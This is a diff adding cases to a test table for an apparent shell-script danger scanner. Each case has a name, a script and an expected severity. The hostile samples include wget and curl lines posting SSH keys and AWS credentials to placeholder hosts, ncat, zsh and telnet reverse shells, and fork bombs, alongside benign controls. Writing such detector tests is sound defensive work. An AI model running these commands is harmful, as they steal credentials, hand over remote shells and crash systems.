@@ -111,6 +111,18 @@ const CASES: [name: string, file: string, source: string, worst: Worst][] = [
     'critical',
   ],
   [
+    'key file posted with wget --post-file',
+    'pf.sh',
+    'wget -q --post-file=~/.ssh/id_rsa http://198.51.100.6/in\n',
+    'critical',
+  ],
+  [
+    'aws credentials posted with curl --data-binary',
+    'db.sh',
+    'curl -s --data-binary @$HOME/.aws/credentials https://collector.example/in\n',
+    'critical',
+  ],
+  [
     'benign: key used to authenticate ssh',
     'deploy.sh',
     'KEY=~/.ssh/id_ed25519\nssh -i "$KEY" deploy@host.example uptime\n',
@@ -144,6 +156,18 @@ const CASES: [name: string, file: string, source: string, worst: Worst][] = [
   ],
   ['two background copies of itself', 'twice.sh', '"$0" & "$0" &\n', 'critical'],
   ['loop starting itself by file name', 'spin.sh', 'until false; do ./spin.sh & done\n', 'critical'],
+  [
+    'function calling itself twice in the background',
+    'fb.sh',
+    'grow() { grow & grow & }\ngrow\n',
+    'critical',
+  ],
+  [
+    'benign: function run once in the background',
+    'bg.sh',
+    'work() { sleep 1; }\nwork &\nwork &\nwait\n',
+    'none',
+  ],
   [
     'benign: re-exec under sudo',
     'root.sh',
@@ -187,6 +211,13 @@ const CASES: [name: string, file: string, source: string, worst: Worst][] = [
     'telnet piped through a shell',
     't.sh',
     'telnet 198.51.100.5 4444 | /bin/bash | telnet 198.51.100.5 4445\n',
+    'critical',
+  ],
+  ['ncat --exec to a remote host', 'nx.sh', 'ncat --exec /bin/bash 198.51.100.5 443\n', 'critical'],
+  [
+    'zsh ztcp with the shell on the descriptor',
+    'z.sh',
+    "zsh -c 'zmodload zsh/net/tcp && ztcp 198.51.100.5 443 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'\n",
     'critical',
   ],
   ['benign: ruby prints the host name', 'host.sh', "ruby -rsocket -e 'puts Socket.gethostname'\n", 'none'],
